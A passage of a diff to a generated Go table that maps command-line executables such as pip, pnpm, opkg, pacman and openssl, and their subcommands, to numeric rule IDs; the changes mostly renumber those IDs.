[]uint32{0x1f0025}}, {"rm", []uint32{0xa0012, 0x1f0025}}, {"root", []uint32{0xa0011, 0x1f0021}}, {"rum", []uint32{0x1f0025}}, {"run", []uint32{0xa0011, 0x1f0025}}, {"run-script", []uint32{0xa0011, 0x1f0025}}, {"s", []uint32{0x1f0024}}, {"sbom", []uint32{0x1f0021}}, {"se", []uint32{0x1f0024}}, {"search", []uint32{0xa0011, 0x1f0024}}, {"set", []uint32{0xa0012, 0x1f0025}}, {"set-script", []uint32{0x1f0025}}, {"show", []uint32{0xa0011, 0x1f0024}}, {"shrinkwrap", []uint32{0x1f0025}}, {"star", []uint32{0x1f0023}}, {"stars", []uint32{0x1f0023}}, {"start", []uint32{0xa0011, 0x1f0025}}, {"stop", []uint32{0x1f0025}}, {"t", []uint32{0xa0011, 0x1f0025}}, {"team", []uint32{0x1f0023}}, {"test", []uint32{0xa0011, 0x1f0025}}, {"token", []uint32{0x1f0023}}, {"tst", []uint32{0xa0011, 0x1f0025}}, {"typecheck", []uint32{0xa0011}}, {"udpate", []uint32{0x1f0025}}, {"un", []uint32{0x1f0025}}, {"uninstall", []uint32{0xa0012, 0x1f0025}}, {"unlink", []uint32{0xa0012, 0x1f0025}}, {"unpublish", []uint32{0x1f0023}}, {"unstar", []uint32{0x1f0023}}, {"up", []uint32{0xa0012, 0x1f0025}}, {"update", []uint32{0xa0012, 0x1f0025}}, {"upgrade", []uint32{0xa0012, 0x1f0025}}, {"urn", []uint32{0x1f0025}}, {"v", []uint32{0xa0011, 0x1f0024}}, {"verison", []uint32{0x1f0025}}, {"version", []uint32{0xa0012, 0x1f0025}}, {"view", []uint32{0xa0011, 0x1f0024}}, {"whoami", []uint32{0x1f0024}}, {"why", []uint32{0xa0011, 0x1f0021}}, {"x", []uint32{0x1f0025}}}, ruleKnown: true},
 	{name: "nproc", grammar: []uint32{0x150031}, generic: []uint32{0xd0016, 0x150031}, subs: nil, ruleKnown: true},
-	{name: "npx", grammar: []uint32{0x1f0024}, generic: []uint32{0x3001a, 0x3001b, 0x1f0024}, subs: nil, ruleKnown: true},
+	{name: "npx", grammar: []uint32{0x1f0026}, generic: []uint32{0x3001a, 0x3001b, 0x1f0026}, subs: nil, ruleKnown: true},
 	{name: "nroff", grammar: []uint32{0x1d001c}, generic: []uint32{0x1d001c}, subs: nil, ruleKnown: false},
 	{name: "nsenter", grammar: []uint32{0x1d0022}, generic: []uint32{0x1d0022}, subs: nil, ruleKnown: false},
 	{name: "nslookup", grammar: []uint32{0x22005e}, generic: []uint32{0xd0016, 0x22005e}, subs: nil, ruleKnown: true},
@@ -2534,9 +2545,9 @@ var generatedExeIndex = []genExe{
 	{name: "openssl", grammar: []uint32{0xd0011, 0x160005}, generic: []uint32{0xb0011, 0xd0026, 0xd0031, 0xe0004, 0xe000b, 0x160005}, subs: []genSub{{"aes-128-cbc", []uint32{0x16000b}}, {"aes-128-ecb", []uint32{0x16000b}}, {"aes-192-cbc", []uint32{0x16000b}}, {"aes-256-cbc", []uint32{0x16000b}}, {"aes-256-ecb", []uint32{0x16000b}}, {"asn1parse", []uint32{0x16000f}}, {"base64", []uint32{0x16000c}}, {"bf", []uint32{0x16000b}}, {"bf-cbc", []uint32{0x16000b}}, {"blake2b512", []uint32{0x16000d}}, {"blake2s256", []uint32{0x16000d}}, {"camellia-256-cbc", []uint32{0x16000b}}, {"chacha20", []uint32{0x16000b}}, {"ciphers", []uint32{0x16000e}}, {"crl", []uint32{0x16000f}}, {"crl2pkcs7", []uint32{0x16000f}}, {"des-ede3-cbc", []uint32{0x16000b}}, {"des3", []uint32{0x16000b}}, {"dgst", []uint32{0x16000d}}, {"dhparam", []uint32{0x160008}}, {"dsa", []uint32{0x160009}}, {"dsaparam", []uint32{0x160008}}, {"ec", []uint32{0x160009}}, {"ecparam", []uint32{0x160008}}, {"enc", []uint32{0x16000b}}, {"errstr", []uint32{0x16000e}}, {"gendsa", []uint32{0x160008}}, {"genpkey", []uint32{0x160008}}, {"genrsa", []uint32{0x160008}}, {"help", []uint32{0x16000e}}, {"info", []uint32{0x16000e}}, {"list", []uint32{0x16000e}}, {"md5", []uint32{0x16000d}}, {"nseq", []uint32{0x16000f}}, {"ocsp", []uint32{0x160011}}, {"passwd", []uint32{0x16000e}}, {"pkcs12", []uint32{0x16000a}}, {"pkcs7", []uint32{0x16000f}}, {"pkcs8", []uint32{0x160009}}, {"pkey", []uint32{0x160009}}, {"pkeyparam", []uint32{0x160008}}, {"pkeyutl", []uint32{0x160010}}, {"prime", []uint32{0x16000e}}, {"rand", []uint32{0x16000e}}, {"req", []uint32{0x160007}}, {"rmd160", []uint32{0x16000d}}, {"rsa", []uint32{0x160009}}, {"rsautl", []uint32{0x160010}}, {"s_client", []uint32{0x160011}}, {"s_server", []uint32{0x160011}}, {"s_time", []uint32{0x160011}}, {"sess_id", []uint32{0x16000f}}, {"sha1", []uint32{0x16000d}}, {"sha224", []uint32{0x16000d}}, {"sha256", []uint32{0x16000d}}, {"sha3-256", []uint32{0x16000d}}, {"sha3-512", []uint32{0x16000d}}, {"sha384", []uint32{0x16000d}}, {"sha512", []uint32{0x16000d}}, {"sm3", []uint32{0x16000d}}, {"speed", []uint32{0x16000e}}, {"verify", []uint32{0x16000f}}, {"version", []uint32{0x16000e}}, {"x509", []uint32{0x160006}}}, ruleKnown: true},
 	{name: "openvpn", grammar: []uint32{0x1e0015}, generic: []uint32{0x1e0015}, subs: nil, ruleKnown: false},
 	{name: "openvt", grammar: []uint32{0x1d0028}, generic: []uint32{0x1d0028}, subs: nil, ruleKnown: false},
-	{name: "opkg", grammar: []uint32{0x1f0005}, generic: []uint32{0x1f0005}, subs: []genSub{{"clean", []uint32{0x1f0007}}, {"compare-versions", []uint32{0x1f0006}}, {"configure", []uint32{0x1f0007}}, {"depends", []uint32{0x1f0006}}, {"download", []uint32{0x1f0007}}, {"files", []uint32{0x1f0006}}, {"find", []uint32{0x1f0006}}, {"flag", []uint32{0x1f0007}}, {"info", []uint32{0x1f0006}}, {"install", []uint32{0x1f0007}}, {"list", []uint32{0x1f0006}}, {"list-installed", []uint32{0x1f0006}}, {"list-upgradable", []uint32{0x1f0006}}, {"print-architecture", []uint32{0x1f0006}}, {"remove", []uint32{0x1f0007}}, {"search", []uint32{0x1f0006}}, {"status", []uint32{0x1f0006}}, {"update", []uint32{0x1f0007}}, {"upgrade", []uint32{0x1f0007}}, {"whatconflicts", []uint32{0x1f0006}}, {"whatdepends", []uint32{0x1f0006}}, {"whatdependsrec", []uint32{0x1f0006}}, {"whatprovides", []uint32{0x1f0006}}, {"whatreplaces", []uint32{0x1f0006}}}, ruleKnown: false},
+	{name: "opkg", grammar: []uint32{0x1f0006}, generic: []uint32{0x1f0006}, subs: []genSub{{"clean", []uint32{0x1f0008}}, {"compare-versions", []uint32{0x1f0007}}, {"configure", []uint32{0x1f0008}}, {"depends", []uint32{0x1f0007}}, {"download", []uint32{0x1f0008}}, {"files", []uint32{0x1f0007}}, {"find", []uint32{0x1f0007}}, {"flag", []uint32{0x1f0008}}, {"info", []uint32{0x1f0007}}, {"install", []uint32{0x1f0008}}, {"list", []uint32{0x1f0007}}, {"list-installed", []uint32{0x1f0007}}, {"list-upgradable", []uint32{0x1f0007}}, {"print-architecture", []uint32{0x1f0007}}, {"remove", []uint32{0x1f0008}}, {"search", []uint32{0x1f0007}}, {"status", []uint32{0x1f0007}}, {"update", []uint32{0x1f0008}}, {"upgrade", []uint32{0x1f0008}}, {"whatconflicts", []uint32{0x1f0007}}, {"whatdepends", []uint32{0x1f0007}}, {"whatdependsrec", []uint32{0x1f0007}}, {"whatprovides", []uint32{0x1f0007}}, {"whatreplaces", []uint32{0x1f0007}}}, ruleKnown: false},
 	{name: "osascript", grammar: []uint32{0xb0008}, generic: []uint32{0xb001c}, subs: nil, ruleKnown: true},
-	{name: "pacman", grammar: []uint32{0x1f000f}, generic: []uint32{0xa000d, 0xa000e, 0xa000f, 0xa001c, 0x1f000f}, subs: nil, ruleKnown: true},
+	{name: "pacman", grammar: []uint32{0x1f0010}, generic: []uint32{0xa000d, 0xa000e, 0xa000f, 0xa001c, 0x1f0010}, subs: nil, ruleKnown: true},
 	{name: "pandoc", grammar: []uint32{0x1d0029}, generic: []uint32{0x1d0029}, subs: nil, ruleKnown: false},
 	{name: "parallel", grammar: nil, generic: []uint32{0x6000c}, subs: nil, ruleKnown: true},
 	{name: "parted", grammar: nil, generic: []uint32{0x10000f}, subs: nil, ruleKnown: true},
@@ -2566,22 +2577,22 @@ var generatedExeIndex = []genExe{
 	{name: "ping", grammar: []uint32{0x220059}, generic: []uint32{0xd0016, 0x220059}, subs: nil, ruleKnown: true},
 	{name: "ping6", grammar: []uint32{0x220059}, generic: []uint32{0xd0016, 0x220059}, subs: nil, ruleKnown: true},
 	{name: "pinky", grammar: []uint32{0x150036}, generic: []uint32{0x150036}, subs: nil, ruleKnown: false},
-	{name: "pip", grammar: []uint32{0xa0001, 0x1f002d}, generic: []uint32{0x1f002d}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019, 0x1f0031, 0x1f0032}}, {"check", []uint32{0xa0019, 0x1f002e}}, {"config", []uint32{0xa0010, 0xa0019, 0x1f002f, 0x1f0030, 0x1f0032}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f002e}}, {"download", []uint32{0xa001a, 0x1f0032}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019, 0x1f002e}}, {"hash", []uint32{0x1f002e}}, {"help", []uint32{0xa0019, 0x1f002e}}, {"index", []uint32{0xa0019, 0x1f0032}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inspect", []uint32{0xa0019, 0x1f002e}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0032}}, {"list", []uint32{0xa0019, 0x1f002e}}, {"lock", []uint32{0xa0019, 0x1f0032}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019}}, {"search", []uint32{0xa0019, 0x1f0032}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019, 0x1f002e}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0032}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a, 0x1f0032}}}, ruleKnown: true},
-	{name: "pip3", grammar: []uint32{0xa0002, 0x1f002d}, generic: []uint32{0x1f002d}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019, 0x1f0031, 0x1f0032}}, {"check", []uint32{0xa0019, 0x1f002e}}, {"config", []uint32{0xa0010, 0xa0019, 0x1f002f, 0x1f0030, 0x1f0032}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f002e}}, {"download", []uint32{0xa001a, 0x1f0032}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019, 0x1f002e}}, {"hash", []uint32{0x1f002e}}, {"help", []uint32{0xa0019, 0x1f002e}}, {"index", []uint32{0xa0019, 0x1f0032}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inspect", []uint32{0xa0019, 0x1f002e}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0032}}, {"list", []uint32{0xa0019, 0x1f002e}}, {"lock", []uint32{0xa0019, 0x1f0032}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019}}, {"search", []uint32{0xa0019, 0x1f0032}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019, 0x1f002e}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0032}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a, 0x1f0032}}}, ruleKnown: true},
-	{name: "pipx", grammar: []uint32{0x1f0033}, generic: []uint32{0xa000c, 0x1f0033}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"completions", []uint32{0x1f0034}}, {"config", []uint32{0xa0019}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019}}, {"download", []uint32{0xa001a}}, {"ensurepath", []uint32{0x1f0035}}, {"env", []uint32{0xa0019}}, {"environment", []uint32{0x1f0034}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inject", []uint32{0x1f0035}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0035}}, {"install-all", []uint32{0x1f0035}}, {"interpreter", []uint32{0x1f0035}}, {"list", []uint32{0xa0019, 0x1f0034}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"pin", []uint32{0x1f0035}}, {"pip", []uint32{0xa001a}}, {"reinstall", []uint32{0x1f0035}}, {"reinstall-all", []uint32{0x1f0035}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019, 0x1f0035}}, {"runpip", []uint32{0x1f0035}}, {"search", []uint32{0xa0019}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninject", []uint32{0x1f0035}}, {"uninstall", []uint32{0xa001a, 0x1f0035}}, {"uninstall-all", []uint32{0x1f0035}}, {"unpin", []uint32{0x1f0035}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a, 0x1f0035}}, {"upgrade-all", []uint32{0x1f0035}}, {"upgrade-shared", []uint32{0x1f0035}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
+	{name: "pip", grammar: []uint32{0xa0001, 0x1f002f}, generic: []uint32{0x1f002f}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019, 0x1f0033, 0x1f0034}}, {"check", []uint32{0xa0019, 0x1f0030}}, {"config", []uint32{0xa0010, 0xa0019, 0x1f0031, 0x1f0032, 0x1f0034}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f0030}}, {"download", []uint32{0xa001a, 0x1f0034}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019, 0x1f0030}}, {"hash", []uint32{0x1f0030}}, {"help", []uint32{0xa0019, 0x1f0030}}, {"index", []uint32{0xa0019, 0x1f0034}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inspect", []uint32{0xa0019, 0x1f0030}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0034}}, {"list", []uint32{0xa0019, 0x1f0030}}, {"lock", []uint32{0xa0019, 0x1f0034}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019}}, {"search", []uint32{0xa0019, 0x1f0034}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019, 0x1f0030}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0034}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a, 0x1f0034}}}, ruleKnown: true},
+	{name: "pip3", grammar: []uint32{0xa0002, 0x1f002f}, generic: []uint32{0x1f002f}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019, 0x1f0033, 0x1f0034}}, {"check", []uint32{0xa0019, 0x1f0030}}, {"config", []uint32{0xa0010, 0xa0019, 0x1f0031, 0x1f0032, 0x1f0034}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019, 0x1f0030}}, {"download", []uint32{0xa001a, 0x1f0034}}, {"env", []uint32{0xa0019}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019, 0x1f0030}}, {"hash", []uint32{0x1f0030}}, {"help", []uint32{0xa0019, 0x1f0030}}, {"index", []uint32{0xa0019, 0x1f0034}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inspect", []uint32{0xa0019, 0x1f0030}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0034}}, {"list", []uint32{0xa0019, 0x1f0030}}, {"lock", []uint32{0xa0019, 0x1f0034}}, {"new", []uint32{0xa001a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019}}, {"search", []uint32{0xa0019, 0x1f0034}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019, 0x1f0030}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0034}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a, 0x1f0034}}}, ruleKnown: true},
+	{name: "pipx", grammar: []uint32{0x1f0035}, generic: []uint32{0xa000c, 0x1f0035}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"completions", []uint32{0x1f0036}}, {"config", []uint32{0xa0019}}, {"create", []uint32{0xa001a}}, {"debug", []uint32{0xa0019}}, {"download", []uint32{0xa001a}}, {"ensurepath", []uint32{0x1f0037}}, {"env", []uint32{0xa0019}}, {"environment", []uint32{0x1f0036}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019}}, {"init", []uint32{0xa001a}}, {"inject", []uint32{0x1f0037}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0037}}, {"install-all", []uint32{0x1f0037}}, {"interpreter", []uint32{0x1f0037}}, {"list", []uint32{0xa0019, 0x1f0036}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"pin", []uint32{0x1f0037}}, {"pip", []uint32{0xa001a}}, {"reinstall", []uint32{0x1f0037}}, {"reinstall-all", []uint32{0x1f0037}}, {"remove", []uint32{0xa001a}}, {"run", []uint32{0xa0019, 0x1f0037}}, {"runpip", []uint32{0x1f0037}}, {"search", []uint32{0xa0019}}, {"shell", []uint32{0xa0019}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tree", []uint32{0xa0019}}, {"uninject", []uint32{0x1f0037}}, {"uninstall", []uint32{0xa001a, 0x1f0037}}, {"uninstall-all", []uint32{0x1f0037}}, {"unpin", []uint32{0x1f0037}}, {"update", []uint32{0xa001a}}, {"upgrade", []uint32{0xa001a, 0x1f0037}}, {"upgrade-all", []uint32{0x1f0037}}, {"upgrade-shared", []uint32{0x1f0037}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
 	{name: "pkexec", grammar: []uint32{0x1d0033}, generic: []uint32{0x1d0033}, subs: nil, ruleKnown: false},
 	{name: "pkg", grammar: []uint32{0x1d0034}, generic: []uint32{0x1d0034}, subs: []genSub{{"add", []uint32{0x1d0037}}, {"autoremove", []uint32{0x1d0038}}, {"backup", []uint32{0x1d0038}}, {"bootstrap", []uint32{0x1d0037}}, {"clean", []uint32{0x1d0038}}, {"convert", []uint32{0x1d0038}}, {"create", []uint32{0x1d0038}}, {"delete", []uint32{0x1d0038}}, {"fetch", []uint32{0x1d0037}}, {"info", []uint32{0x1d0035}}, {"install", []uint32{0x1d0037}}, {"lock", []uint32{0x1d0038}}, {"register", []uint32{0x1d0038}}, {"remove", []uint32{0x1d0038}}, {"repo", []uint32{0x1d0038}}, {"set", []uint32{0x1d0038}}, {"unlock", []uint32{0x1d0038}}, {"update", []uint32{0x1d0037}}, {"upgrade", []uint32{0x1d0037}}, {"which", []uint32{0x1d0036}}}, ruleKnown: false},
 	{name: "pkill", grammar: []uint32{0x100002, 0x22000e}, generic: []uint32{0x100024, 0x100025, 0x10003b, 0x22000e}, subs: nil, ruleKnown: true},
 	{name: "plocate", grammar: []uint32{0x190002}, generic: []uint32{0xd0016, 0x190002}, subs: nil, ruleKnown: true},
 	{name: "plymouth", grammar: []uint32{0x1d0039}, generic: []uint32{0x1d0039}, subs: nil, ruleKnown: false},
-	{name: "pnpm", grammar: []uint32{0x1f0029}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f0029}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f002c}}, {"approve-builds", []uint32{0x1f002c}}, {"audit", []uint32{0xa0011, 0x1f002c}}, {"bin", []uint32{0xa0011, 0x1f002a}}, {"build", []uint32{0xa0011}}, {"c", []uint32{0x1f002b, 0x1f002c}}, {"cache", []uint32{0xa0012}}, {"cat-file", []uint32{0x1f002c}}, {"cat-index", []uint32{0x1f002c}}, {"check", []uint32{0xa0011}}, {"ci", []uint32{0xa0012}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f002b, 0x1f002c}}, {"create", []uint32{0x1f002c}}, {"dedupe", []uint32{0xa0012, 0x1f002c}}, {"deploy", []uint32{0x1f002c}}, {"dev", []uint32{0xa0011}}, {"dlx", []uint32{0x1f002c}}, {"doctor", []uint32{0xa0011, 0x1f002c}}, {"env", []uint32{0x1f002c}}, {"exec", []uint32{0x1f002c}}, {"explain", []uint32{0xa0011}}, {"fetch", []uint32{0x1f002c}}, {"find-hash", []uint32{0x1f002c}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011}}, {"help", []uint32{0xa0011}}, {"i", []uint32{0xa0008, 0xa0012, 0x1f002c}}, {"import", []uint32{0x1f002c}}, {"in", []uint32{0xa0008}}, {"info", []uint32{0xa0011}}, {"init", []uint32{0x1f002c}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f002c}}, {"install-test", []uint32{0x1f002c}}, {"it", []uint32{0x1f002c}}, {"la", []uint32{0x1f002a}}, {"licenses", []uint32{0xa0011, 0x1f002a}}, {"link", []uint32{0xa0012, 0x1f002c}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f002a}}, {"ll", []uint32{0x1f002a}}, {"ln", []uint32{0x1f002c}}, {"ls", []uint32{0xa0011, 0x1f002a}}, {"outdated", []uint32{0xa0011, 0x1f002c}}, {"pack", []uint32{0xa0011, 0x1f002c}}, {"patch", []uint32{0x1f002c}}, {"patch-commit", []uint32{0x1f002c}}, {"prefix", []uint32{0xa0011}}, {"prune", []uint32{0xa0012, 0x1f002c}}, {"publish", []uint32{0x1f002c}}, {"query", []uint32{0xa0011}}, {"rb", []uint32{0x1f002c}}, {"rebuild", []uint32{0xa0012, 0x1f002c}}, {"remove", []uint32{0xa0012, 0x1f002c}}, {"rm", []uint32{0xa0012, 0x1f002c}}, {"root", []uint32{0xa0011, 0x1f002a}}, {"run", []uint32{0xa0011, 0x1f002c}}, {"run-script", []uint32{0xa0011, 0x1f002c}}, {"search", []uint32{0xa0011}}, {"self-update", []uint32{0x1f002c}}, {"server", []uint32{0x1f002c}}, {"set", []uint32{0xa0012}}, {"setup", []uint32{0x1f002c}}, {"show", []uint32{0xa0011}}, {"start", []uint32{0xa0011, 0x1f002c}}, {"store", []uint32{0x1f002b, 0x1f002c}}, {"t", []uint32{0xa0011, 0x1f002c}}, {"test", []uint32{0xa0011, 0x1f002c}}, {"tst", []uint32{0xa0011}}, {"typecheck", []uint32{0xa0011}}, {"un", []uint32{0x1f002c}}, {"uninstall", []uint32{0xa0012, 0x1f002c}}, {"unlink", []uint32{0xa0012, 0x1f002c}}, {"up", []uint32{0xa0012, 0x1f002c}}, {"update", []uint32{0xa0012, 0x1f002c}}, {"upgrade", []uint32{0xa0012, 0x1f002c}}, {"v", []uint32{0xa0011}}, {"version", []uint32{0xa0012, 0x1f002c}}, {"view", []uint32{0xa0011}}, {"why", []uint32{0xa0011, 0x1f002a}}}, ruleKnown: true},
+	{name: "pnpm", grammar: []uint32{0x1f002b}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f002b}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f002e}}, {"approve-builds", []uint32{0x1f002e}}, {"audit", []uint32{0xa0011, 0x1f002e}}, {"bin", []uint32{0xa0011, 0x1f002c}}, {"build", []uint32{0xa0011}}, {"c", []uint32{0x1f002d, 0x1f002e}}, {"cache", []uint32{0xa0012}}, {"cat-file", []uint32{0x1f002e}}, {"cat-index", []uint32{0x1f002e}}, {"check", []uint32{0xa0011}}, {"ci", []uint32{0xa0012}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f002d, 0x1f002e}}, {"create", []uint32{0x1f002e}}, {"dedupe", []uint32{0xa0012, 0x1f002e}}, {"deploy", []uint32{0x1f002e}}, {"dev", []uint32{0xa0011}}, {"dlx", []uint32{0x1f002e}}, {"doctor", []uint32{0xa0011, 0x1f002e}}, {"env", []uint32{0x1f002e}}, {"exec", []uint32{0x1f002e}}, {"explain", []uint32{0xa0011}}, {"fetch", []uint32{0x1f002e}}, {"find-hash", []uint32{0x1f002e}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011}}, {"help", []uint32{0xa0011}}, {"i", []uint32{0xa0008, 0xa0012, 0x1f002e}}, {"import", []uint32{0x1f002e}}, {"in", []uint32{0xa0008}}, {"info", []uint32{0xa0011}}, {"init", []uint32{0x1f002e}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f002e}}, {"install-test", []uint32{0x1f002e}}, {"it", []uint32{0x1f002e}}, {"la", []uint32{0x1f002c}}, {"licenses", []uint32{0xa0011, 0x1f002c}}, {"link", []uint32{0xa0012, 0x1f002e}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f002c}}, {"ll", []uint32{0x1f002c}}, {"ln", []uint32{0x1f002e}}, {"ls", []uint32{0xa0011, 0x1f002c}}, {"outdated", []uint32{0xa0011, 0x1f002e}}, {"pack", []uint32{0xa0011, 0x1f002e}}, {"patch", []uint32{0x1f002e}}, {"patch-commit", []uint32{0x1f002e}}, {"prefix", []uint32{0xa0011}}, {"prune", []uint32{0xa0012, 0x1f002e}}, {"publish", []uint32{0x1f002e}}, {"query", []uint32{0xa0011}}, {"rb", []uint32{0x1f002e}}, {"rebuild", []uint32{0xa0012, 0x1f002e}}, {"remove", []uint32{0xa0012, 0x1f002e}}, {"rm", []uint32{0xa0012, 0x1f002e}}, {"root", []uint32{0xa0011, 0x1f002c}}, {"run", []uint32{0xa0011, 0x1f002e}}, {"run-script", []uint32{0xa0011, 0x1f002e}}, {"search", []uint32{0xa0011}}, {"self-update", []uint32{0x1f002e}}, {"server", []uint32{0x1f002e}}, {"set", []uint32{0xa0012}}, {"setup", []uint32{0x1f002e}}, {"show", []uint32{0xa0011}}, {"start", []uint32{0xa0011, 0x1f002e}}, {"store", []uint32{0x1f002d, 0x1f002e}}, {"t", []uint32{0xa0011, 0x1f002e}}, {"test", []uint32{0xa0011, 0x1f002e}}, {"tst", []uint32{0xa0011}}, {"typecheck", []uint32{0xa0011}}, {"un", []uint32{0x1f002e}}, {"uninstall", []uint32{0xa0012, 0x1f002e}}, {"unlink", []uint32{0xa0012, 0x1f002e}}, {"up", []uint32{0xa0012, 0x1f002e}}, {"update", []uint32{0xa0012, 0x1f002e}}, {"upgrade", []uint32{0xa0012, 0x1f002e}}, {"v", []uint32{0xa0011}}, {"version", []uint32{0xa0012, 0x1f002e}}, {"view", []uint32{0xa0011}}, {"why", []uint32{0xa0011, 0x1f002c}}}, ruleKnown: true},
 	{name: "pnpx", grammar: nil, generic: []uint32{0x3001a, 0x3001b}, subs: nil, ruleKnown: true},
 	{name: "pod", grammar: nil, generic: []uint32{0xa0005, 0xa001b}, subs: nil, ruleKnown: true},
